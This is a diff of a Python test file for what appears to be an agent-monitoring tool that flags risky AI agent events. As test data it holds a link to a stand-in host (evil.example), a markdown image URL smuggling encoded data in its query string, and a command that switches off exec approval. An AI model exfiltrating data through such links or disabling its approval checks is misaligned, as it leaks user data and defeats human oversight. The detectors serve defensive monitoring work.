@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 from clawtrail import event as ev
 from clawtrail import schema
 from clawtrail.errors import ConfigurationError
+from clawtrail.rules import Rules
 from clawtrail.watch import COMPANIONS, Watch, line_digests, marks
 from clawtrail.watch import text as words
 from clawtrail.watch.companions import configured
@@ -356,7 +357,9 @@ def test_link_unseen_host(tainted):
     assert rules(tainted.see("model.decision", content={"excerpt": "see https://evil.example/x"})) == {"link.unseen-host"}
 
 
-def test_link_data_in_query(scene):
+def test_a_link_that_carries_data_is_a_rule_of_the_file_and_tried_on_what_leaves():
+    scene = Scene(rules=Rules.load())
+    scene.start()
     query = "d=" + "QUJD" * 30
     assert "link.data-in-query" in rules(scene.see("message.out", content={"excerpt": f"![](https://e.example/p?{query})"}))
     assert "link.data-in-query" in rules(scene.see("message.out", content={"excerpt": f"[here](https://e.example/p?{query})"}))
@@ -537,12 +540,10 @@ def test_approval_rubber_stamp(scene):
     assert not rules(answer(0.5, "denied"))
 
 
-def test_approval_disabled(scene):
-    assert "approval.disabled" in rules(scene.see("config.change", change={"what": "approval", "name": "exec.ask", "before": "on", "after": "off"}))
-    assert "approval.disabled" in rules(scene.call("exec", {"command": "openclaw config set tools.exec.ask off"}))
-    assert "approval.disabled" in rules(scene.see("config.change", change={"what": "config", "name": "tools.exec.security", "after": "full"}))
+def test_approval_switched_off(scene):
+    assert "approval.switched-off" in rules(scene.see("config.change", change={"what": "approval", "name": "exec.ask", "before": "on", "after": "off"}))
+    assert "approval.switched-off" in rules(scene.see("config.change", change={"what": "config", "name": "tools.exec.security", "after": "full"}))
     assert not rules(scene.see("config.change", change={"what": "approval", "name": "exec.ask", "after": "always"}))
-    assert not rules(scene.call("exec", {"command": "openclaw config get tools.exec.ask"}))
 
 
 def test_hook_disabled(scene):
